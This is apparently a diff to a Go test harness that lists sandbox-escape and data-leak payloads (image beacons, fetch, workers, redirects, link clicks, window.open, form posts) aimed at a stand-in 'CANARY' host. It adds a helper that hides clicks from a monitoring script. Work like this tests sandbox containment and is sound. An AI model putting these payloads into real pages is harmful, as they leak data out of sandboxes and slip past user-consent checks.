@@ -175,8 +175,10 @@ func webrtc(server string) string {
 }
 
 const (
-	sendImage  = `var i=d.createElement("img");i.src="http://CANARY/i";(d.body||d.documentElement).append(i);`
-	sendFetch  = `w.fetch("http://CANARY/f",{mode:"no-cors"});`
+	sendImage = `var i=d.createElement("img");i.src="http://CANARY/i";(d.body||d.documentElement).append(i);`
+	sendFetch = `w.fetch("http://CANARY/f",{mode:"no-cors"});`
+	// unseen is a click that asks.js does not get.
+	unseen     = `a.onclick=(e)=>e.stopPropagation();a.click()`
 	workerBody = `fetch("http://CANARY/w",{mode:"no-cors"}).catch(()=>{});try{importScripts("http://CANARY/i.js")}catch{}`
 )
 
@@ -265,15 +267,15 @@ var attacks = []attack{
 	{name: "location", falls: canvasOpen, page: js(`location="http://CANARY/x"`)},
 	{name: "meta refresh", falls: canvasOpen, page: `<meta http-equiv=refresh content="0;url=http://CANARY/x">`},
 	{name: "top location", falls: unsandbox, page: js(`try{top.location="http://CANARY/x"}catch{}`)},
-	{name: "link to top", falls: unsandbox, page: `<a id=a href="http://CANARY/x" target=_top>x</a>` + js(`a.click()`)},
-	{name: "link", falls: canvasOpen, page: `<a id=a href="http://CANARY/x">x</a>` + js(`a.click()`)},
-	{name: "link to a new window", falls: unsandbox, page: `<a id=a href="http://CANARY/x" target=_blank>x</a>` + js(`a.click()`)},
-	{name: "link to a new window over TLS", falls: unsandbox, page: `<a id=a href="https://CANARY/x" target=_blank>x</a>` + js(`a.click()`)},
+	{name: "link to top", falls: unsandbox, page: `<a id=a href="http://CANARY/x" target=_top>x</a>` + js(unseen)},
+	{name: "link", falls: canvasOpen, page: `<a id=a href="http://CANARY/x">x</a>` + js(unseen)},
+	{name: "link to a new window", falls: unsandbox, page: `<a id=a href="http://CANARY/x" target=_blank>x</a>` + js(unseen)},
+	{name: "link to a new window over TLS", falls: unsandbox, page: `<a id=a href="https://CANARY/x" target=_blank>x</a>` + js(unseen)},
 	{name: "link that is pointed at", holds: "only where it can be opened", page: `<a id=a href="http://CANARY/x">x</a>` + js(`for(var e of ["mouseover","mousedown","mouseup"])a.dispatchEvent(new MouseEvent(e,{bubbles:true}));a.focus()`)},
-	{name: "window.open", falls: unsandbox, page: js(`window.open("http://CANARY/x")`)},
+	{name: "window.open", falls: unsandbox, page: inFrame("about:blank", `w.open("http://CANARY/x")`)},
 	{name: "window.open of the outer frame", falls: unsandbox, page: js(`parent.open("http://CANARY/x")`)},
 	{name: "ping", page: `<a id=a href="#x" ping="http://CANARY/x">x</a>` + js(`a.click()`)},
-	{name: "download", falls: canvasOpen, page: `<a id=a href="http://CANARY/x" download>x</a>` + js(`a.click()`)},
+	{name: "download", falls: canvasOpen, page: `<a id=a href="http://CANARY/x" download>x</a>` + js(unseen)},
 	{name: "form get", falls: canvasOpen, page: `<form id=f action="http://CANARY/x"><input name=a value=b></form>` + js(`f.submit()`)},
 	{name: "form post", falls: canvasOpen, page: `<form id=f action="http://CANARY/x" method=post><input name=a value=b></form>` + js(`f.submit()`)},
 	{name: "form to top", falls: unsandbox, page: `<form id=f action="http://CANARY/x" target=_top></form>` + js(`f.submit()`)},
